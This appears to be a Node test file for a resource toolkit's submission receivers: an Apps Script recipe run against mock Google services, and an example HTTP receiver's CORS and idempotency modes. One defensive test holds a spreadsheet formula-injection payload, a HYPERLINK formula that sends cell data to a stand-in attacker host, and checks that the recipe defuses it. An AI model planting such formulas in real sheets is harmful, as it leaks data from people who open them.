// The receivers deployers can use instead of one built for the toolkit (docs/receivers.md):
// the Google Apps Script recipe (docs/receivers/apps-script.gs), run in node:vm against
// stand-ins for the Apps Script services it uses (not against Google), and the example
// receiver's modes that answer as such receivers do (scripts/receiver.mjs), over real HTTP.
//
//   node --test tests/receivers.test.mjs
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import vm from 'node:vm';
import { useReceivers } from './browser/support/receivers.mjs';

const RECIPE = fileURLToPath(new URL('../docs/receivers/apps-script.gs', import.meta.url));
const RECEIVER = fileURLToPath(new URL('../scripts/receiver.mjs', import.meta.url));

// --- Stand-ins for SpreadsheetApp, LockService and ContentService ---------------------------

/** A spreadsheet with the sheets named in `existing` (name → rows), and the services over it. */
function google(existing = {}) {
  const sheets = new Map();
  const lock = { held: false, waits: 0, releases: 0 };
  const makeSheet = (name, rows = []) => {
    const sheet = {
      name,
      rows,
      frozenRows: 0,
      appendRow(values) {
        assert.ok(lock.held, 'rows are added only while the script lock is held');
        assert.ok(Array.isArray(values));
        for (const v of values) {
          assert.equal(typeof v, 'string', `every cell is given as text, not ${typeof v}`);
          assert.ok(v.length <= 50000, 'a cell holds at most 50,000 characters');
        }
        rows.push([...values]);
        return sheet;
      },
      getLastRow: () => rows.length,
      getRange(row, column, numRows = 1, numColumns = 1) {
        // As Sheets does: a range of no rows is an error.
        if (![row, column, numRows, numColumns].every((n) => Number.isInteger(n) && n >= 1)) {
          throw new Error(`bad range ${row}, ${column}, ${numRows}, ${numColumns}`);
        }
        return {
          getValues: () =>
            Array.from({ length: numRows }, (_, i) =>
              Array.from({ length: numColumns }, (_, j) => rows[row - 1 + i]?.[column - 1 + j] ?? ''),
            ),
        };
      },
      setFrozenRows(n) {
        sheet.frozenRows = n;
      },
    };
    sheets.set(name, sheet);
    return sheet;
  };
  for (const [name, rows] of Object.entries(existing)) makeSheet(name, rows);
  const services = {
    SpreadsheetApp: {
      getActiveSpreadsheet: () => ({
        getSheetByName: (name) => sheets.get(name) ?? null,
        insertSheet(name) {
          assert.ok(!sheets.has(name), `a sheet named ${name} is made only once`);
          return makeSheet(name);
        },
      }),
      flush() {},
    },
    LockService: {
      getScriptLock: () => ({
        waitLock(ms) {
          assert.ok(ms > 0);
          lock.waits += 1;
          lock.held = true;
        },
        tryLock() {
          lock.waits += 1;
          lock.held = true;
          return true;
        },
        releaseLock() {
          lock.releases += 1;
          lock.held = false;
        },
        hasLock: () => lock.held,
      }),
    },
    ContentService: {
      MimeType: { TEXT: 'TEXT', JSON: 'JSON' },
      createTextOutput(text) {
        const output = {
          text,
          mimeType: 'TEXT',
          getContent: () => output.text,
          setMimeType(type) {
            output.mimeType = type;
            return output;
          },
        };
        return output;
      },
    },
  };
  return { services, sheets, lock };
}

/** The recipe loaded into a fresh context with the stand-ins; `post(body)` calls its doPost. */
function recipe(existing) {
  const g = google(existing);
  const context = vm.createContext({ ...g.services });
  vm.runInContext(readFileSync(RECIPE, 'utf8'), context, { filename: 'apps-script.gs' });
  const post = (body) => {
    // The event Apps Script gives doPost for a POST whose body is text/plain.
    const output = context.doPost({
      queryString: '',
      parameter: {},
      parameters: {},
      contentLength: Buffer.byteLength(body),
      postData: { contents: body, length: Buffer.byteLength(body), type: 'text/plain', name: 'postData' },
    });
    assert.equal(g.lock.held, false, 'the lock is released whatever the answer');
    return output.getContent();
  };
  return { ...g, post, inbox: () => g.sheets.get('Submissions') };
}

let counter = 0;
function submission(overrides = {}) {
  counter += 1;
  return {
    schema_version: 1,
    kind: 'resource-suggestion',
    idempotency_key: `3b1f0c7e-5d0a-4c1e-9a57-0c9f4c2d8e${String(counter).padStart(2, '0')}`,
    submitted_at: '2026-11-23T10:15:30.123Z',
    site: 'Resilience Toolkit',
    resource: { id: 'peer-mentoring', title: 'Peer mentoring for commuter students', url: 'https://www.example.ac.uk/peer' },
    why_it_helps: 'Our commuter students said so.',
    contributor: { name: '', email: 'sam@example.ac.uk', organisation: '', consent_to_contact: true },
    ...overrides,
  };
}

const HEADER = ['idempotency_key', 'submitted_at', 'kind', 'site', 'summary', 'submission (JSON)'];

// --- The Apps Script recipe ---------------------------------------------------------------

test('Apps Script recipe: a text/plain JSON submission becomes one row (key, submitted_at, kind, site, summary, JSON) under a header it makes', () => {
  const r = recipe();
  const s = submission();
  assert.equal(r.post(JSON.stringify(s)), 'stored');
  const sheet = r.inbox();
  assert.ok(sheet, 'the Submissions sheet is made');
  assert.equal(sheet.frozenRows, 1);
  assert.deepEqual(sheet.rows, [
    HEADER,
    [s.idempotency_key, s.submitted_at, 'resource-suggestion', 'Resilience Toolkit', 'Peer mentoring for commuter students', JSON.stringify(s)],
  ]);
  assert.deepEqual(JSON.parse(sheet.rows[1][5]), s, 'the last column holds the whole submission');
  assert.equal(r.lock.waits, 1);
  assert.equal(r.lock.releases, 1);
});

test('Apps Script recipe: the same idempotency_key twice is stored once ("already stored")', () => {
  const r = recipe();
  const s = submission();
  const other = submission();
  assert.equal(r.post(JSON.stringify(s)), 'stored');
  assert.equal(r.post(JSON.stringify(other)), 'stored');
  assert.equal(r.post(JSON.stringify(s)), 'already stored');
  assert.equal(r.post(JSON.stringify({ ...s, why_it_helps: 'sent again' })), 'already stored');
  assert.deepEqual(
    r.inbox().rows.slice(1).map((row) => row[0]),
    [s.idempotency_key, other.idempotency_key],
  );
});

test('Apps Script recipe: a body that is not JSON, or JSON without idempotency_key or kind, is refused and not stored', () => {
  const r = recipe();
  const { idempotency_key: _key, ...keyless } = submission();
  const { kind: _kind, ...kindless } = submission();
  for (const body of [
    'not json at all',
    '',
    'null',
    '"a string"',
    '[1, 2]',
    JSON.stringify(keyless),
    JSON.stringify(kindless),
    JSON.stringify(submission({ idempotency_key: '' })),
    JSON.stringify(submission({ idempotency_key: 42 })),
  ]) {
    assert.equal(r.post(body), 'not a toolkit submission', `refuses ${body.slice(0, 40)}`);
  }
  assert.equal(r.inbox(), undefined, 'nothing was stored (the sheet was not even made)');
  assert.equal(r.post(JSON.stringify(submission())), 'stored');
  assert.equal(r.inbox().rows.length, 2);
});

/** `catalogue::export::FORMULA_TRIGGERS`, as characters. */
function rustTriggers() {
  const source = readFileSync(new URL('../crates/catalogue/src/export.rs', import.meta.url), 'utf8');
  const list = source.match(/pub const FORMULA_TRIGGERS: \[char; (\d+)\] = \[([^\]]*)\]/);
  const chars = [...list[2].matchAll(/'(\\u\{([0-9A-Fa-f]+)\}|\\t|\\r|[^'\\])'/g)].map((m) =>
    m[2] ? String.fromCodePoint(parseInt(m[2], 16)) : m[1] === '\\t' ? '\t' : m[1] === '\\r' ? '\r' : m[1],
  );
  assert.equal(chars.length, Number(list[1]), 'every trigger read from the Rust source');
  return chars;
}

test('Apps Script recipe: a hostile value (a title =HYPERLINK(...)) is stored as text, with a leading apostrophe', () => {
  const r = recipe();
  const hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click for the full guide")';
  const s = submission({ site: '+44 ACME', resource: { id: 'x', title: hostile } });
  assert.equal(r.post(JSON.stringify(s)), 'stored');
  const row = r.inbox().rows[1];
  assert.equal(row[3], "'+44 ACME");
  assert.equal(row[4], `'${hostile}`);
  assert.deepEqual(JSON.parse(row[5]), s, 'the JSON column starts with { and keeps the value as sent');
  // Every character the toolkit's own rule defuses (catalogue::export, read from its source so
  // that the recipe cannot drift from it), and the apostrophe that keeps the rule reversible.
  for (const start of [...rustTriggers(), "'"]) {
    const t = recipe();
    const key = `${start}key-${counter}`;
    const x = submission({ idempotency_key: key, submitted_at: `${start}1+1`, site: `${start}cmd` });
    assert.equal(t.post(JSON.stringify(x)), 'stored');
    const cells = t.inbox().rows[1];
    for (const cell of [cells[0], cells[1], cells[3]]) assert.ok(cell.startsWith(`'${start}`), JSON.stringify(cell));
    // A key stored with its apostrophe is still recognised as stored.
    assert.equal(t.post(JSON.stringify(x)), 'already stored');
    assert.equal(t.inbox().rows.length, 2);
  }
  // The summary is one line, so a title's line breaks cannot start a new "cell" of their own.
  const t = recipe();
  assert.equal(t.post(JSON.stringify(submission({ resource: { title: '  Line one\n=SUM(1)\r\nthree ' } }))), 'stored');
  assert.equal(t.inbox().rows[1][4], 'Line one =SUM(1) three');
});

test('Apps Script recipe: the summary says what each kind is about', () => {
  const r = recipe();
  const post = (overrides) => {
    assert.equal(r.post(JSON.stringify(submission(overrides))), 'stored');
    return r.inbox().rows.at(-1)[4];
  };
  assert.equal(
    post({
      kind: 'resource-feedback',
      resource: undefined,
      feedback: { resource_id: 'hepi-invisible-problem', resource_title: 'The invisible problem?', topic: 'broken-link', message: 'Moved.' },
    }),
    'hepi-invisible-problem · broken-link',
  );
  assert.equal(
    post({ kind: 'subscribe', resource: undefined, contributor: undefined, subscription: { email: 'a@example.ac.uk', feed: 'exam-stress', feed_title: 'Exam stress' } }),
    'exam-stress',
  );
  assert.equal(
    post({ kind: 'resource-comment', resource: undefined, comment: {
        resource_id: 'peer-mentoring',
        resource_title: 'Peer mentoring for commuter students',
        name: 'R. Patel',
        role: 'Wellbeing adviser',
        institution: '',
        text: 'Useful in our induction week.',
        consent_to_publish: true,
      }, }),
    'peer-mentoring · R. Patel',
  );
  assert.equal(post({ kind: 'something-new', resource: undefined }), '', 'a kind it does not know is still stored');
  assert.equal(r.inbox().rows.length, 5);
});

test('Apps Script recipe: an existing Submissions sheet is used as it is, and its keys count', () => {
  const s = submission();
  const r = recipe({ Submissions: [HEADER, [s.idempotency_key, '', '', '', '', '']] });
  assert.equal(r.post(JSON.stringify(s)), 'already stored');
  assert.equal(r.post(JSON.stringify(submission())), 'stored');
  assert.equal(r.inbox().rows.length, 3);
  assert.deepEqual(r.inbox().rows[0], HEADER, 'no second header row');
  // An empty sheet someone made by hand (no header yet) is used too.
  const empty = recipe({ Submissions: [] });
  assert.equal(empty.post(JSON.stringify(submission())), 'stored');
  assert.equal(empty.inbox().rows.length, 1);
});

// --- The example receiver's modes, over HTTP ------------------------------------------------

const receiver = useReceivers();

const corsHeaders = (res) => [...res.headers.keys()].filter((h) => h.startsWith('access-control-'));

/** The preflight a browser sends before a POST with a JSON content type and a custom header. */
const preflight = (url) =>
  fetch(url, {
    method: 'OPTIONS',
    headers: {
      origin: 'https://toolkit.example.ac.uk',
      'access-control-request-method': 'POST',
      'access-control-request-headers': 'content-type,idempotency-key',
    },
  });

/** What "request": "simple" sends: the JSON as text/plain, no custom header. */
const simplePost = (url, s) =>
  fetch(url, {
    method: 'POST',
    headers: { origin: 'https://toolkit.example.ac.uk', 'content-type': 'text/plain;charset=UTF-8' },
    body: JSON.stringify(s, null, 2),
  });

test('receiver refuseOptions (as Apps Script): OPTIONS 405 with no CORS headers; a text/plain POST is stored once when posted twice, answered with access-control-allow-origin: * only', async () => {
  const r = await receiver({ refuseOptions: true });
  const pre = await preflight(r.url);
  assert.equal(pre.status, 405);
  assert.deepEqual(corsHeaders(pre), []);
  assert.equal(r.state.preflights.length, 1);

  const s = submission();
  const first = await simplePost(r.url, s);
  assert.equal(first.status, 200);
  assert.equal(await first.text(), 'stored');
  assert.deepEqual(corsHeaders(first), ['access-control-allow-origin']);
  assert.equal(first.headers.get('access-control-allow-origin'), '*');
  const again = await simplePost(r.url, s);
  assert.equal(again.status, 200);
  assert.equal(await again.text(), 'already stored');
  assert.equal(r.state.stored.size, 1);
  assert.deepEqual(r.state.stored.get(s.idempotency_key), s);

  // Any content type is read as JSON; what is not a submission is answered, not stored.
  const json = submission();
  const res = await fetch(r.url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(json) });
  assert.equal(await res.text(), 'stored');
  const junk = await fetch(r.url, { method: 'POST', body: 'hello' });
  assert.equal(junk.status, 200);
  assert.equal(await junk.text(), 'not a toolkit submission');
  assert.equal(r.state.stored.size, 2);

  assert.deepEqual(
    r.state.requests.map(({ method, contentType, key }) => ({ method, contentType, key })),
    [
      { method: 'POST', contentType: 'text/plain;charset=UTF-8', key: null },
      { method: 'POST', contentType: 'text/plain;charset=UTF-8', key: null },
      { method: 'POST', contentType: 'application/json', key: null },
      { method: 'POST', contentType: 'text/plain;charset=UTF-8', key: null },
    ],
  );
  assert.deepEqual(JSON.parse(r.state.requests[0].body), s);
});

test('receiver cors:false: no access-control-* header on any answer; text/plain and JSON bodies stored once by the body key', async () => {
  const r = await receiver({ cors: false });
  const pre = await preflight(r.url);
  assert.equal(pre.status, 405);
  assert.deepEqual(corsHeaders(pre), []);

  const s = submission();
  const first = await simplePost(r.url, s);
  assert.equal(first.status, 201);
  assert.deepEqual(corsHeaders(first), []);
  const again = await simplePost(r.url, s);
  assert.equal(again.status, 200);
  assert.deepEqual(await again.json(), { stored: s.idempotency_key, repeat: true });
  assert.deepEqual(corsHeaders(again), []);

  const json = submission();
  const viaJson = await fetch(r.url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(json) });
  assert.equal(viaJson.status, 201);
  assert.deepEqual(corsHeaders(viaJson), []);

  for (const [body, status] of [['not json', 400], [JSON.stringify({ kind: 'subscribe' }), 422]]) {
    const res = await fetch(r.url, { method: 'POST', body });
    assert.equal(res.status, status);
    assert.deepEqual(corsHeaders(res), []);
  }
  const get = await fetch(r.url);
  assert.equal(get.status, 405);
  assert.deepEqual(corsHeaders(get), []);

  assert.deepEqual([...r.state.stored.keys()], [s.idempotency_key, json.idempotency_key]);
  assert.deepEqual(r.state.requests.map((q) => q.method), ['POST', 'POST', 'POST', 'POST', 'POST', 'GET']);
});

test('receiver default mode unchanged: OPTIONS 204 with CORS headers; a POST needs the Idempotency-Key header to match the body', async () => {
  const r = await receiver();
  const pre = await preflight(r.url);
  assert.equal(pre.status, 204);
  assert.equal(pre.headers.get('access-control-allow-origin'), '*');
  assert.equal(pre.headers.get('access-control-allow-methods'), 'POST, OPTIONS');
  assert.equal(pre.headers.get('access-control-allow-headers'), 'content-type, idempotency-key');
  assert.equal(pre.headers.get('access-control-max-age'), '600');

  const s = submission();
  const post = (key) =>
    fetch(r.url, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...(key ? { 'idempotency-key': key } : {}) },
      body: JSON.stringify(s),
    });
  const first = await post(s.idempotency_key);
  assert.equal(first.status, 201);
  assert.equal(first.headers.get('access-control-allow-headers'), 'content-type, idempotency-key');
  assert.equal((await post(s.idempotency_key)).status, 200);
  assert.equal((await post(null)).status, 422, 'the simple request (no header) is refused here');
  assert.equal(r.state.stored.size, 1);
  assert.deepEqual(r.state.requests[0], {
    method: 'POST',
    contentType: 'application/json',
    key: s.idempotency_key,
    body: JSON.stringify(s),
  });
  assert.equal(r.state.requests.length, 3, 'preflights are kept apart from requests');
  assert.equal(r.state.preflights.length, 1);

  // Failures still come first, with the mode's headers.
  const failing = await receiver({ failFirst: 1, refuseOptions: true });
  const failed = await simplePost(failing.url, s);
  assert.equal(failed.status, 503);
  assert.deepEqual(corsHeaders(failed), ['access-control-allow-origin']);
  assert.equal((await simplePost(failing.url, s)).status, 200);
  assert.equal(failing.state.stored.size, 1);
});

test('receiver command line: --refuse-options and --no-cors', async () => {
  for (const [flag, status, allowOrigin] of [['--refuse-options', 200, '*'], ['--no-cors', 201, null]]) {
    const child = spawn(process.execPath, [RECEIVER, '--port', '0', flag], { stdio: ['ignore', 'pipe', 'inherit'] });
    try {
      const url = await new Promise((ok, fail) => {
        let out = '';
        child.stdout.setEncoding('utf8');
        child.stdout.on('data', (chunk) => {
          out += chunk;
          const m = out.match(/at (http:\S+)/);
          if (m) ok(m[1]);
        });
        child.on('exit', (code) => fail(new Error(`receiver exited (${code}): ${out}`)));
      });
      assert.equal((await preflight(url)).status, 405);
      const res = await simplePost(url, submission());
      assert.equal(res.status, status, flag);
      assert.equal(res.headers.get('access-control-allow-origin'), allowOrigin, flag);
    } finally {
      child.kill();
    }
  }
});
